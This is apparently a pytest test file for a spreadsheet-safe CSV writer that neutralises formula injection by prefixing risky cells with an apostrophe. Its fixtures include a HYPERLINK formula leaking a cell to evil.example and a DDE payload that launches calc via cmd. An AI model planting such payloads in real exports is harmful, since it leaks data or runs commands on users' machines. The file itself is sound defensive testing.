"""CSV export cells never start a spreadsheet formula."""
from __future__ import annotations

import csv
import io

import pytest

from labtrack.core import csv_safe
from labtrack.core.csv_safe import spreadsheet_safe


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-", "+",
])
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["green emission", "NC8.3", "", "a=b", "1-2", "'already text"])
def test_ordinary_text_is_unchanged(cell):
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("cell", ["-1.5", "+3e-4", "-0.25", "-12", ".5"])
def test_plain_numbers_stay_numbers(cell):
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("value", [None, -1.5, 42, 0.0])
def test_non_strings_pass_through(value):
    assert spreadsheet_safe(value) is value


def test_writer_neutralises_every_cell_and_round_trips():
    buffer = io.StringIO()
    writer = csv_safe.writer(buffer)
    writer.writerow(["NC8.3", '=HYPERLINK("x")', -1.5, None, "@x"])
    writer.writerows([["+1+1", "ok"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["NC8.3", '\'=HYPERLINK("x")', "-1.5", "", "'@x"], ["'+1+1", "ok"]]


def test_writerow_returns_the_line_for_streaming():
    class Echo:
        def write(self, value):
            return value

    line = csv_safe.writer(Echo()).writerow(["=1", "a"])
    assert line == "'=1,a\r\n"
